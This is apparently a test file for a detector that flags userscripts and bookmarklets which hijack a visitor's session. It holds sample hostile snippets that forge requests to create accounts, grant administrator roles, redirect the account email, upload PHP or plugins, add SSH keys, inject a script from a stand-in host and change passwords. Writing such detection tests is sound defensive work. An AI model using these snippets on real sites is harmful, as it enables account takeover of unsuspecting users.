import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { findIn, userscript } from "../testing/find-in.ts";
import { siteTakeover } from "./site-takeover.ts";

const on = (body: string) => userscript(["match https://shop.example/*"], body);
/** A page of the site is fetched, and its token is cut out of the answer. */
const forge = (page: string, send: string) =>
	`fetch("${page}").then((r) => r.text()).then((t) => { const token = /token" value="(\\w+)/.exec(t)[1]; ${send} });`;
const post = (address: string, body: string) => `fetch("${address}", { method: "POST", body: ${body} });`;

describe("site-takeover", () => {
	test.each([
		["an account", forge("/people/new", post("/people", '"name=a&password=b&token=" + token')), "Makes an account"],
		[
			"an account in an old request",
			'var r = new XMLHttpRequest(); r.open("GET", "/users/new", false); r.send(); var t = r.responseText.match(/n="(.)/)[1]; r.open("POST", "/users/new", true); r.send("user=a&pass1=b&pass2=b&n=" + t);',
			"Makes an account",
		],
		[
			"an account by a form with entries",
			forge(
				"/people/new",
				`const f = new FormData(); f.append("name", "a"); f.append("password", "b"); f.append("t", token); ${post("/save", "f")}`,
			),
			"Makes an account",
		],
		[
			"an account whose fields are bytes",
			forge("/x", post("/people/create", "new Blob([new TextEncoder().encode(token)])")),
			"Makes an account",
		],
		[
			"an account of a site that is named",
			'fetch("https://desk.example/new").then((r) => r.text()).then((t) => fetch("https://desk.example/save", { method: "POST", body: "login=a&passwd=b&k=" + t.slice(3, 9) }));',
			"Makes an account",
		],
		[
			"a role",
			post("/api/users/7", 'JSON.stringify({ name: "a", roles: ["administrator"] })'),
			"administrator's rights",
		],
		["a role by jQuery", '$.post("/members/save", { id: 7, is_admin: 1 });', "administrator's rights"],
		[
			"a mail address of the visitor's own entry",
			post("/api/me", 'JSON.stringify({ email: "helper@mail.example" })'),
			"mail address of its own",
		],
		[
			"a mail address by a form in markup",
			`document.body.insertAdjacentHTML("beforeend", '<form id=zz method=post action=/account/email><input name=email value="helper@mail.example"></form>'); document.getElementById("zz").submit();`,
			"mail address of its own",
		],
		["a mail address", post("/account", '"email=helper%40mail.example"'), "mail address of its own"],
		[
			"program code",
			post("/files/save", "new URLSearchParams({ path: 'x', text: '<?php echo 1;' })"),
			"the site's software",
		],
		[
			"an upload of software",
			forge(
				"/addons",
				`const f = new FormData(); f.append("file", new File(["x"], "a.zip")); f.append("t", token); ${post("/update?action=upload-plugin", "f")}`,
			),
			"the site's software",
		],
		["a page that runs a program", post("/profile/about", '"text=%3Cscript src=//c.test/x.js>"'), "runs a program"],
		["a key for another computer", post("/settings/keys", '"key=ssh-rsa AAAAB3"'), "access to your account"],
		[
			"an application that is let in",
			'const f = document.createElement("form"); f.action = "/oauth/authorize"; f.method = "post"; document.body.append(f); f.submit();',
			"access to your account",
		],
		["the administration", forge("/admin/site", post("/admin/site", '"maintenance=1&t=" + token')), "administration"],
	])("finds %s", (_title, code, says) => {
		expect(findIn(siteTakeover, code)).toEqual(["high 1"]);
		const { risk_level, vulnerabilities } = analyzeScript({ code });
		expect(risk_level).toBe("red");
		expect(vulnerabilities.map(({ description }) => description).join("\n")).toContain(says);
	});

	test("finds what a userscript does by itself", () => {
		expect(findIn(siteTakeover, on(forge("/x", post("/people", '"password=b&t=" + token'))))).toEqual(["high 5"]);
	});

	const button = (work: string) =>
		`const b = document.createElement("button"); b.onclick = () => { ${work} }; document.body.append(b);`;

	test.each([
		["what a button of the script starts", on(button(forge("/x", post("/people", '"password=b&t=" + token'))))],
		[
			"a password that is left empty",
			on(forge("/x", post("/api/fs/get", 'JSON.stringify({ path: location.pathname, password: "", t: token })'))),
		],
		[
			"signing in by a name with an underscore",
			on(forge("/x", post("/users/sign_in", '"user[password]=" + unfold(1) + "&authenticity_token=" + token'))),
		],
		["signing in", on(post("/login", '"user=a&password=b"'))],
		["signing in with a token", on(forge("/login", post("/login", '"user=a&password=b&t=" + token')))],
		["what the visitor types", forge("/x", post("/people", '"password=" + prompt("New password?") + "&t=" + token'))],
		["a like with a token", on(forge("/x", post("/posts/7/vote", '"up=1&t=" + token')))],
		["a comment", on(forge("/x", post("/comments", '"text=Thanks&t=" + token')))],
		["a question about roles", on('fetch("/api/roles?name=administrator").then((r) => r.json()).then(f);')],
		["what visitors of a page ask for", on(forge("/x", post("/wp-admin/admin-ajax.php", '"action=more&t=" + token')))],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(siteTakeover, code)).toEqual([]);
	});
});

describe("site-takeover by a bookmarklet", () => {
	const framed = (fill: string) =>
		`javascript:const frame = document.createElement("iframe"); frame.onload = () => { ${fill} }; frame.src = "/account"; document.body.append(frame);`;

	test.each([
		[
			"a password in a page of the site, saved by a click",
			framed(
				'const page = frame.contentDocument; page.getElementById("NewPassword").value = "x"; page.getElementById("Save").click();',
			),
		],
		[
			"a password in a page of the site, a moment after it was loaded",
			framed('setTimeout(() => { frame.contentDocument.querySelector("#new-passwd").value = "x"; }, 1000);'),
		],
		[
			"a password in a window of the site",
			'javascript:const page = open("/account"); page.onload = () => { page.document.querySelector("[name=password2]").value = "x"; };',
		],
	])("finds %s", (_title, code) => {
		expect(findIn(siteTakeover, code)).toEqual(["high 1"]);
	});

	test.each([
		[
			"a password that the visitor is asked for",
			framed('frame.contentDocument.getElementById("NewPassword").value = prompt("New password");'),
		],
		["a search field in a page of the site", framed('frame.contentDocument.querySelector("#search").value = "x";')],
		["a password in a field of the page itself", 'javascript:document.querySelector("#password").value = "x"'],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(siteTakeover, code)).toEqual([]);
	});
});
